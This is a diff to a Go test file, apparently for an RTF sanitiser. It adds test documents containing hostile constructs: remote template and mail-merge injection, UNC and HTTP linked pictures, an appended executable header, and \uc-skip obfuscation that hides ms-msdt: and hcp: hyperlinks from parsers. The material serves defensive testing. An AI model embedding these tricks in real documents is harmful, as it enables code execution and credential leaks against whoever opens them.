@@ -96,11 +96,22 @@ func generatedCorpus(t *testing.T) map[string]string {
 		"gen-includepicture.rtf":     docStart + `Remote: {\field{\*\fldinst INCLUDEPICTURE "http://198.51.100.7/track.png" \\d}{\fldrslt }} done.` + docEnd,
 		"gen-hyperlink.rtf":          docStart + `Link: {\field{\*\fldinst HYPERLINK "https://www.example.jp/"}{\fldrslt {\ul www.example.jp}}} and page {\field{\*\fldinst PAGE}{\fldrslt 1}}.` + docEnd,
 		"gen-linked-picture.rtf":     docStart + `Logo: {\shp{\*\shpinst\shpleft0\shptop0\shpright2000\shpbottom1000{\sp{\sn shapeType}{\sv 75}}{\sp{\sn pibName}{\sv \\\\198.51.100.7\\share\\logo.png}}{\sp{\sn pibFlags}{\sv 74}}}} end.` + docEnd,
-		"gen-template.rtf":           `{\rtf1\ansi{\fonttbl{\f0 Arial;}}{\*\template http://198.51.100.7/remote.dotm}\pard Template injection.\par}` + "\r\n",
-		"gen-mailmerge.rtf":          `{\rtf1\ansi{\fonttbl{\f0 Arial;}}{\*\mailmerge\mmmaintypeform{\*\mmconnectstr DSN=x;DBQ=\\\\198.51.100.7\\share\\x.mdb}{\*\mmquery SELECT * FROM x}}\pard Merge.\par}` + "\r\n",
-		"gen-trailing-data.rtf":      docStart + `Body.` + docEnd + "MZ\x90\x00\x03 payload after the document",
-		"gen-control-chars.rtf":      docStart + "Text with a NUL\x00 and a bell\x07 inside." + docEnd,
-		"gen-unicode.rtf":            docStart + `\uc1 \u35531?\u27714?\u26360? {\f0\'93\'fa\'96\'7b} text` + docEnd,
+		// \ucN makes readers skip characters after each \uN: Word and LibreOffice read
+		// "\uc6\u109 ailto:s-msdt:..." as ms-msdt:, "\uc7\u104 ttps://cp:" as hcp:.
+		"gen-uc-skip-hyperlink.rtf": docStart + `{\field{\*\fldinst HYPERLINK "\uc6\u109 ailto:s-msdt:/id PCWDiagnostic /skip force"}{\fldrslt msdt}} ` +
+			`{\field{\*\fldinst HYPERLINK "\uc7\u104 ttps://cp://198.51.100.7/x"}{\fldrslt hcp}} ` +
+			`{\field{\*\fldinst HYPERLINK "https://www.example.jp/\u12354\'82\'a0"}{\fldrslt kept}}` + docEnd,
+		// Pictures linked through other shape properties and names spelled so that only
+		// a reader that decodes them sees pibName.
+		"gen-shape-links.rtf": docStart + `Fill: {\shp{\*\shpinst\shpleft0\shptop0\shpright2000\shpbottom1000{\sp{\sn shapeType}{\sv 1}}{\sp{\sn fillType}{\sv 3}}{\sp{\sn fillBlipName}{\sv \\\\198.51.100.7\\share\\fill.png}}{\sp{\sn fillBlipFlags}{\sv 10}}` +
+			`{\sp{\sn lineFillBlipName}{\sv http://198.51.100.7/line.png}}{\sp{\sn pibPrintName}{\sv http://198.51.100.7/print.png}}` +
+			`{\sp{\sn \u112?ibName}{\sv http://198.51.100.7/u.png}}{\sp{\sn shapeType}{\sn pibName}{\sv http://198.51.100.7/two.png}}{\sp{{\sn pibName}}{\sv http://198.51.100.7/nested.png}}` +
+			`{\sp{\sn wzName}{\sv Box 1}}}} end.` + docEnd,
+		"gen-template.rtf":      `{\rtf1\ansi{\fonttbl{\f0 Arial;}}{\*\template http://198.51.100.7/remote.dotm}\pard Template injection.\par}` + "\r\n",
+		"gen-mailmerge.rtf":     `{\rtf1\ansi{\fonttbl{\f0 Arial;}}{\*\mailmerge\mmmaintypeform{\*\mmconnectstr DSN=x;DBQ=\\\\198.51.100.7\\share\\x.mdb}{\*\mmquery SELECT * FROM x}}\pard Merge.\par}` + "\r\n",
+		"gen-trailing-data.rtf": docStart + `Body.` + docEnd + "MZ\x90\x00\x03 payload after the document",
+		"gen-control-chars.rtf": docStart + "Text with a NUL\x00 and a bell\x07 inside." + docEnd,
+		"gen-unicode.rtf":       docStart + `\uc1 \u35531?\u27714?\u26360? {\f0\'93\'fa\'96\'7b} text` + docEnd,
 
 		// Tolerated where Word and LibreOffice open the file and its meaning is clear.
 		"gen-unclosed-groups.rtf": docStart + `{\b never closed` + docEnd,
